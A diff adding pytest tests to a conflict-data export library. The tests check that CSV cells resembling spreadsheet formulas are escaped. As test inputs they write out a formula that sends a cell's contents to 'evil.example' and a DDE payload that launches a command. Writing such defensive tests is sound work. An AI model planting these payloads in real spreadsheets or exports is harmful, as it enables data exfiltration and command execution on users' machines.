@@ -277,3 +277,61 @@ def test_export_from_a_store(tmp_path: Path, doc: Document, reports: list[Report
     assert rows[0]["actor1"] == "Military Forces of Mali (2021-)"
     with pytest.raises(ValueError, match="unknown export format"):
         write("xlsx", [], io.StringIO())
+
+
+# -- spreadsheet formulas ----------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_cells_that_look_like_formulas_are_escaped(doc: Document, reports: list[Report]) -> None:
+    """A hostile page's text (its site name as ``source``, say) is not run by spreadsheets; numbers,
+    negative ones included, are written as they are."""
+    import dataclasses
+
+    hostile = dataclasses.replace(doc, source=FORMULA)
+    report = dataclasses.replace(
+        reports[0],
+        notes="+cmd|' /C calc'!A0",
+        actor1=Actor("@SUM(1+1)", "rebel_group", 2, "Mali"),
+        tags=("-2+3",),
+        evidence=(Span(doc.id, 0, 5, "\tTAB"),),
+    )
+    out = io.StringIO()
+    write_acled_csv([(report, hostile)], out, now=NOW)
+    row = _read_csv(out.getvalue())[0]
+    assert row["source"] == "'" + FORMULA
+    assert row["notes"] == "'+cmd|' /C calc'!A0"
+    assert row["actor1"] == "'@SUM(1+1)"
+    assert row["tags"] == "'-2+3"
+    assert row["evidence"] == "'\tTAB"
+    assert row["longitude"] == "-0.044"  # a number, left alone
+    assert row["latitude"] == "16.2666" and row["fatalities"] == "24" and row["inter1"] == "2"
+    # the row itself (GeoJSON, JSON) keeps the text as it is
+    assert acled_row(report, hostile, now=NOW)["source"] == FORMULA
+
+
+def test_incident_csv_cells_that_look_like_formulas_are_escaped() -> None:
+    from conflictlens.export import write_incidents_acled
+    from conflictlens.resolve.model import Incident, IncidentSource
+
+    source = IncidentSource("doc-1", "doc-1#0", FORMULA, None, None, "evil", True, {})
+    incident = Incident(
+        "INC-a",
+        "ML",
+        "Battles",
+        "Armed clash",
+        actor1="=1+1",
+        place={"name": "@Gao", "latitude": -14.5, "longitude": -4.25, "geo_precision": 1},
+        fatalities={"acled": 3},
+        sources=(source,),
+        notes="-notes",
+    )
+    out = io.StringIO()
+    write_incidents_acled([incident], out, now=NOW)
+    row = _read_csv(out.getvalue())[0]
+    assert row["source"] == "'" + FORMULA
+    assert row["actor1"] == "'=1+1"
+    assert row["location"] == "'@Gao"
+    assert row["notes"] == "'-notes"
+    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-14.5", "-4.25", "3")
